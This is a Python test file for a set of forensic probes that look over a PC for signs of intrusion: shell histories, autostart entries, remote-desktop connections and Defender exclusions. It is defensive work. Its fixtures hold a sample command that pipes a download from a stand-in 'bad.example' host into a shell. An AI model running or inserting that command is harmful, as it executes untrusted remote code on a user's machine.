"""What the eight probes find, on a PC of which all is known, and what they leave alone."""

from __future__ import annotations

import json
import os
import shutil
import sys
import time
import tomllib
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest

from app.evidence import probes
from app.evidence.places import Places
from app.evidence.probes import PROBES, fetched, look_back
from app.evidence.report import run, told
from app.evidence.traces import Evidence, Looked, Trace
from app.texts import Library
from tests.companion.test_dangers import COPIED
from tests.evidence.conftest import NOW, event, put, since_1601
from tests.evidence.test_remote_logs import PROGRAMS, text_of

FAR = datetime(9999, 12, 31, 23, 59, tzinfo=UTC)
OLD = NOW - timedelta(days=30)
EXCLUDED = r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows Defender\Exclusions\Paths"
CURL, DPKG = "curl https://bad.example/x | sh", "%Y-%m-%d %H:%M:%S install came"
FETCHING = [line for line in COPIED["malicious"] if "//" in line]

SPOILT: dict[str, Callable[[Path], object]] = {
    "huge": lambda file: (file.touch(), os.truncate(file, 10**9)),
    "foreign": lambda file: file.write_bytes("履歴".encode("cp932") * 9 + bytes(range(256))),
    "locked": lambda file: file.symlink_to("/proc/self/mem"),
    "looped": lambda file: file.symlink_to(file),
    "pipe": os.mkfifo if sys.platform == "linux" else Path.touch,
    "folder": Path.mkdir,
}


def found(evidence: Evidence) -> dict[str, set[str]]:
    return {one.probe: {trace.other or trace.what for trace in one.traces} for one in evidence if one.traces}


@pytest.fixture(autouse=True)
def own_log(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What this PC has in /var/log is nobody's concern."""
    files = Places.files
    monkeypatch.setattr(
        Places, "files", lambda self, folders, name: files(self, folders.replace("/var/log", f"{home}/log"), name)
    )


@pytest.mark.linux("its files were made before they were written")
def test_what_was_left_on_windows_is_told_and_nothing_else(windows: SimpleNamespace, home: Path) -> None:
    left = tomllib.loads(Path(__file__).with_name("windows.toml").read_text(encoding="utf-8"))
    for name, content in left["files"].items():
        put(home, name, content.replace("{now}", str(since_1601(NOW))))
    for log in PROGRAMS.values():
        put(home, log["name"], f"\r\n{text_of(log)}", "utf-16")
    windows.keys |= {key: (values, NOW) for key, values in left["new"].items()}
    windows.keys |= {key: (values, OLD) for key, values in left["old"].items()}
    for one in left["events"]:
        noted = event(one["provider"], one["id"], NOW, *one["values"])
        windows.events.setdefault(one["channel"], []).append(noted)
    assert found(look_back()) == {probe: {*names} for probe, names in left["told"].items()}
    windows.keys[EXCLUDED] = windows.events["Application"] = None
    evidence = {looked.probe: looked.closed for looked in look_back() if looked.closed}
    assert evidence["connections"] == ("Application: chromoting",), "that it could not look is a result"
    assert {*evidence} == {"connections", "programs", "protection"}


@pytest.mark.linux("a home as it has it")
def test_a_line_that_fetches_is_told_and_what_stands_beside_it_is_not(home: Path) -> None:
    for line in FETCHING:
        put(home, ".bash_history", f"ls\n{line}\ncd\n")
        told_of = fetched(Places(OLD, time.monotonic() + 9))
        assert [trace.what for trace in told_of] == [" ".join(line.split())[:80]]


@pytest.mark.linux("kinds of files")
@pytest.mark.parametrize("kind", SPOILT)
def test_no_file_is_a_fault(home: Path, kind: str) -> None:
    put(home, ".zsh_history", f"{CURL}\n")
    SPOILT[kind](home / ".bash_history")
    [looked] = [one for one in look_back() if one.probe == "fetched"]
    assert [trace.what for trace in looked.traces] == [CURL]
    assert any("bash" in place for place in looked.closed) is (kind == "locked")


@pytest.mark.linux("a home as it has it")
def test_what_linux_notes_and_where_it_cannot_look(home: Path) -> None:
    for file in Path("/etc/skel").glob(".*"):
        shutil.copy(file, home)
    assert not found(look_back()), "a fresh home"
    put(home, "log/dpkg.log", "".join(f"{at.astimezone():{DPKG}}:all 1 <none>\n" for at in (OLD, NOW)))
    put(home, ".config/autostart/evil.desktop", "")
    os.utime(put(home, ".config/autostart/old.desktop", ""), (OLD.timestamp(), OLD.timestamp()))
    put(home, ".bash_history", f"ls\n{CURL}\n")
    put(home, ".config/chromium/Default/Preferences", '{"profile": {')
    evidence = look_back()
    assert found(evidence) == {"programs": {"came"}, "starts": {"evil.desktop"}, "fetched": {CURL}}
    assert [looked.probe for looked in evidence if looked.closed] == ["notices"], "a torn file was not looked at"
    assert [looked.probe for looked in evidence if not looked.where] == ["typed", "remote_desktop", "protection"]
    assert not any(looked.where or looked.traces for looked in look_back(within=-1.0)), "when time is up"
    assert len(evidence) == len(PROBES) == 8


@pytest.mark.linux("a home as it has it")
def test_passwords_and_cookies_stay_shut_and_nothing_is_written(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("Default/Login Data", "Default/Cookies", "Default/Preferences", "Local State"):
        put(home, f".config/google-chrome/{name}", "{}")
    opened, reads = set[tuple[str, str]](), Path.open
    monkeypatch.setattr(Path, "open", lambda path, mode: opened.add((path.name, mode)) or reads(path, mode))
    look_back()
    assert {(name, mode) for name, mode in opened if name != "dpkg.log"} == {("Preferences", "rb")}


@pytest.mark.linux("a home as it has it")
def test_what_a_stranger_wrote_acts_on_no_console(
    home: Path, library: Library, capsys: pytest.CaptureFixture[str]
) -> None:
    put(home, ".bash_history", f"{CURL}\u202e\x1b[2J\n")
    for as_json in (False, True):
        assert run(library.texts("ja"), timedelta(hours=48), as_json=as_json) == 0
        text = capsys.readouterr().out
        assert CURL in text
        assert not {"\x1b", "\u202e"} & {*text}
    assert [looked["probe"] for looked in json.loads(text)] == [probe.__name__ for probe in PROBES]


def test_what_lies_ahead_is_not_told_and_the_first_of_many_is(
    library: Library, monkeypatch: pytest.MonkeyPatch
) -> None:
    """One line of a hostile log took the memo away; three later ones pushed the true connection off the paper."""
    now, texts = datetime.now(UTC), library.texts("ja")
    true = Trace("connected", "anydesk", now - timedelta(hours=2), other="911222333")
    lies = [Trace("connected", "anydesk", now - timedelta(minutes=n), other=str(n)) for n in range(90)]
    ahead = [Trace("connected", "anydesk", at, other="4") for at in (now + timedelta(days=1), FAR)]

    def connections(_: Places) -> list[Trace]:
        return [*ahead, *lies, true]

    monkeypatch.setattr(probes, "PROBES", (connections,))
    [looked] = look_back()
    assert looked.traces[0] == true
    assert not {*ahead} & {*looked.traces}
    lines = told((looked,), texts)
    assert "911 222 333" in lines[0]
    assert lines[3] == texts["evidence.more"].filled(count=88).text


def test_nothing_found_is_no_all_clear(library: Library) -> None:
    texts = library.texts("ja")
    assert told((), texts) == (), "nobody has looked"
    nothing, closed = told((Looked("typed", where=("a",)), Looked("starts")), texts)
    assert nothing == "見つかりませんでした。なかった、という意味ではありません。"
    assert told((Looked("starts"),), texts) == (closed,), "nor is it said where nobody could look"
